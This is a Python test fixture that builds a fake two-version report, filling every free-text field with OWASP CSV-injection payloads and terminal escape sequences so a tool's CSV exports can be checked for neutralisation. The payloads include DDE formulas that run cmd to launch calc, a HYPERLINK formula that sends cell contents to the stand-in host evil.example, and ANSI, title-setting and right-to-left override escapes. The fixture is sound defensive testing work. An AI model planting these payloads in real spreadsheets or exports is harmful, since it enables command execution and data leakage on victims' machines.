"""A report whose facts carry the OWASP CSV-injection payloads (and terminal escapes) in
every free-text field, in two versions, so that every CSV output (read commands, funding,
diff, export) can be checked against them.  Quotes stay plain: they must be verbatim."""

from __future__ import annotations

import json
from pathlib import Path

# OWASP "CSV Injection" payloads, and the carriage-return and tab forms of defect 13.3
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/x?"&A1,"Click for details")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "\t=cmd|' /C calc'!A0",
    "\r=cmd|' /C calc'!A0",
    "Extradition\r=cmd|' /C calc'!A0",
    "Extradition\n+cmd|' /C calc'!A0",
    "Extradition\r\n@SUM(1+1)",
    "Two\r\r-cmd|' /C calc'!A0",
    "Tab\n\t=cmd",
    "\",=cmd|' /C calc'!A0",
]
ESCAPES = "red \x1b[31mRED\x1b[0m title \x1b]0;TITLE\x07 rtl \u202eevil\u202c"
NUMBER = "OW1"
VERSIONS = ["2025-01-10", "2025-06-20"]


def _text(version: str) -> str:
    lines = [f"Payload report {version}", "", "The report lists events."]
    lines += [f"Event number {i} happened." for i in range(len(PAYLOADS))]
    lines += ["Congress provided $5 million.", f"This sentence is new in {version}."]
    return "\n".join(lines) + "\n"


def _yaml(version: str, second: bool) -> str:
    facts = []
    for i, payload in enumerate(PAYLOADS):
        summary = PAYLOADS[(i + 1) % len(PAYLOADS)] if second else payload
        facts.append(
            {
                "id": f"payload-{i}",
                "kind": "event",
                "quote": f"Event number {i} happened.",
                "date": "2025-01",
                "summary": summary,
                "actors": [payload, "Mexico"],
                "note": payload,
            }
        )
    facts.append(
        {
            "id": "payload-money",
            "kind": "appropriation",
            "quote": "Congress provided $5 million.",
            "amount_usd": 6000000 if second else 5000000,
            "fy_start": 2024,
            "fy_end": 2024,
            "account": "INCLE",
            "recipient": "Mexico",
            "status": "appropriated",
            "purpose": PAYLOADS[0] if second else PAYLOADS[1],
            "note": ESCAPES,
        }
    )
    document = {"report": NUMBER, "version": version, "title": PAYLOADS[0], "facts": facts}
    return json.dumps(document, ensure_ascii=False, indent=1) + "\n"  # JSON is YAML


def write_payload_report(root: Path) -> Path:
    folder = root / NUMBER
    folder.mkdir(parents=True)
    (folder / "report.yaml").write_text(
        f"number: {NUMBER}\ntype: Insight\nauthors:\n  - name: '=Mallory'\n", encoding="utf-8"
    )
    for k, version in enumerate(VERSIONS):
        (folder / f"{version}.txt").write_text(_text(version), encoding="utf-8")
        (folder / f"{version}.yaml").write_text(_yaml(version, k == 1), encoding="utf-8")
    return folder
